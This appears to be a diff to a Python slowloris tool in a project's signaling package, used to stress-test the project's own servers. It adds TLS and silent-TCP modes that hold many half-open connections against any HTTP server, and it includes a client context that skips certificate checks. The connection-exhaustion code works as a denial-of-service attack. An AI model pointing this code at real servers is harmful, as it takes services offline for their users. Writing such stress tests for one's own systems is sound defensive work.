@@ -6,6 +6,9 @@ legitimate expert and follower take to join a room meanwhile.
     python -m humantele.signaling.slowloris --url ws://host:port/ws   # a running server
                                                                        # (token: $HUMANTELE_TOKEN)
 
+:func:`hold_sockets` holds them against any HTTP server, also over TLS (the daemons' pages:
+tests/web/test_pages_slowloris.py).
+
 Without ``--url`` it starts ``humantele signal`` in a child process on a free loopback port with
 a random token (``--fd-limit`` lowers the child's descriptor limit, as in a small container)
 and reports the child's log too. The sockets come from ``--sources`` loopback addresses
@@ -21,6 +24,7 @@ import json
 import os
 import resource
 import secrets
+import ssl
 import subprocess
 import sys
 import tempfile
@@ -62,25 +66,45 @@ class HeldSockets:
         await asyncio.gather(*self._tasks, return_exceptions=True)
 
 
+def _client_tls() -> ssl.SSLContext:
+    """A client TLS context that takes any certificate (the attacker does not care)."""
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    return ctx
+
+
 async def _hold_one(
-    held: HeldSockets, host: str, port: int, source: str, interval_s: float
+    held: HeldSockets,
+    host: str,
+    port: int,
+    source: str,
+    interval_s: float,
+    mode: str = "http",
+    request: bytes = PARTIAL_REQUEST,
 ) -> None:
+    tls = _client_tls() if mode == "tls" else None
     try:
-        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
-    except OSError:
+        reader, writer = await asyncio.open_connection(
+            host, port, local_addr=(source, 0), ssl=tls,
+            ssl_handshake_timeout=30.0 if tls else None,
+        )  # fmt: skip
+    except (OSError, ssl.SSLError, TimeoutError):
         held.failed += 1
         return
     held.opened += 1
     try:
-        writer.write(PARTIAL_REQUEST)
+        if mode != "tcp":  # "tcp": connect and say nothing (not even a TLS ClientHello)
+            writer.write(request)
         while True:
             # a closed (or reset) connection ends the read; otherwise trickle one more line
             with contextlib.suppress(TimeoutError):
                 if not await asyncio.wait_for(reader.read(1024), interval_s):
                     break
-            writer.write(TRICKLE)
-            await writer.drain()
-    except OSError:
+            if mode != "tcp":
+                writer.write(TRICKLE)
+                await writer.drain()
+    except (OSError, ssl.SSLError):
         pass
     finally:
         writer.close()
@@ -88,14 +112,26 @@ async def _hold_one(
 
 
 async def hold_sockets(
-    host: str, port: int, n: int, *, sources: int = 1, interval_s: float = 5.0
+    host: str,
+    port: int,
+    n: int,
+    *,
+    sources: int = 1,
+    interval_s: float = 5.0,
+    mode: str = "http",
+    request: bytes = PARTIAL_REQUEST,
 ) -> HeldSockets:
     """Open ``n`` half-open connections from ``sources`` loopback addresses; return once every
-    connection attempt has been made (they stay held until :meth:`HeldSockets.close`)."""
+    connection attempt has been made (they stay held until :meth:`HeldSockets.close`).
+    ``mode``: ``http`` (a partial request, one more header line every ``interval_s``),
+    ``tls`` (the same inside TLS: a page served over https), ``tcp`` (connect, send
+    nothing: against TLS, a handshake that never starts)."""
+    if mode not in ("http", "tls", "tcp"):
+        raise ValueError(f"mode {mode!r}: http, tls or tcp")
     held = HeldSockets()
     for i in range(n):
         task = asyncio.create_task(
-            _hold_one(held, host, port, source_address(i, sources), interval_s)
+            _hold_one(held, host, port, source_address(i, sources), interval_s, mode, request)
         )
         held._tasks.append(task)
     deadline = time.monotonic() + 30.0
